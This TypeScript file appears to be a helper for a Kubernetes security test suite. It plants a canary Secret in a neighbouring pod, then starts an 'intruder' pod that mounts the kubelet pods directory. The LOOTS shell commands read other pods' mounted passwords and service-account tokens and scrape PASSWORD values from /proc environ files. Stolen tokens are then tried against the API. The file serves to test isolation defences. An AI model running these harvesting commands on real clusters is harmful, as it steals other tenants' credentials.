import { allow, ensure, find, pathOf, waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import { openCollector } from "./collector.ts";
import { run, shell } from "./real.ts";
import { canaryPath, fresh, nodeOf, READER, SECRET, valueIn, type Stage } from "./stage.ts";

/** Where the kubelet mounts the volumes of its pods. */
const PODS = "/var/lib/kubelet/pods";

/** Shell commands that write, line by line, what can be seen of other pods of the node: by its files under /node, or its processes. */
export const LOOTS = {
  secrets: "for file in /node/*/volumes/kubernetes.io~secret/*/password; do cat $file; echo; done",
  tokens: "for file in /node/*/volumes/kubernetes.io~projected/*/token; do cat $file; echo; done",
  environments: "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | sed -n 's/^PASSWORD=//p'",
} as const;

/** The source of a volume that shows the files of all pods of the node. */
export const HOST_PATH = { hostPath: { path: PODS } };

/** A container that looks at the volume `node`. */
export const VIEW = { volumeMounts: [{ name: "node", mountPath: "/node", readOnly: true }] };

/** A pod on the real node with the Secret in a volume and in its environment, and the token of an account that may get it. */
export async function settle(stage: Stage, namespace: string): Promise<void> {
  const { plane } = stage;
  const name = "neighbour";
  if ((await find(plane, "Pod", namespace, name)) !== null) return;
  if (namespace !== stage.namespace) {
    await ensure(plane, { apiVersion: "v1", kind: "Namespace", metadata: { name: namespace } });
    await waitFor("the other namespace's default account", async () => {
      return (await plane.request("GET", pathOf("ServiceAccount", namespace, "default"))).status === 200;
    });
    const metadata = { namespace, name: SECRET };
    await ensure(plane, { apiVersion: "v1", kind: "Secret", metadata, stringData: { password: stage.canary } });
  }
  await ensure(plane, { apiVersion: "v1", kind: "ServiceAccount", metadata: { namespace, name: READER } });
  const subjects = [{ kind: "ServiceAccount" as const, namespace, name: READER }];
  await allow(plane, {
    ...{ name: "neighbour-reads", namespace: stage.namespace, subjects },
    ...{ verbs: ["get"], resources: ["secrets"], resourceNames: [SECRET] },
  });
  const volumeMounts = [{ name: "password", mountPath: "/password" }];
  const volumes = [{ name: "password", secret: { secretName: SECRET } }];
  const spec = { serviceAccountName: READER, containers: [shell("sleep 10000", { volumeMounts })], volumes };
  await run(stage, spec, { name, namespace });
}

/** What a pod that looks around is, beside its command. */
interface Look {
  container?: Stored;
  pod?: Stored;
}

/** Creates a pod as the attacker that looks around on the real node, and returns the canary where it found that. */
export function lookAround(
  stage: Stage,
  loot: keyof typeof LOOTS,
  look: Look,
  name = fresh("intruder"),
): Promise<string> {
  return lookAroundBy(stage, loot, look, (spec) =>
    stage.send("POST", pathOf("Pod", stage.namespace), { metadata: { name }, spec }),
  );
}

/** The same where the pod is made in another way, out of its spec. */
export async function lookAroundBy(
  stage: Stage,
  loot: keyof typeof LOOTS,
  { container = {}, pod = {} }: Look,
  make: (spec: Stored) => Promise<unknown>,
): Promise<string> {
  const collector = await openCollector(stage);
  try {
    const main = { name: "main", command: ["sh", "-c", `(${LOOTS[loot]}) | ${collector.send}`], ...container };
    const spec = nodeOf(stage).spec({ automountServiceAccountToken: false, ...pod, containers: [main] });
    await make(spec);
    const lines = await collector.lines();
    if (loot === "tokens") return await getWithAny(stage, lines);
    return lines.find((line) => line === stage.canary) ?? "not there";
  } finally {
    await collector.close();
  }
}

/** Gets the canary with whichever of the tokens may. */
async function getWithAny(stage: Stage, tokens: string[]): Promise<string> {
  return waitFor("one of the tokens to be good for the canary", async (note) => {
    note(`${String(tokens.length)} tokens`);
    for (const token of tokens.filter((one) => one !== "")) {
      const { status, body } = await stage.plane.request("GET", canaryPath(stage), undefined, { token });
      if (status === 200) return valueIn(body);
    }
    return null;
  });
}
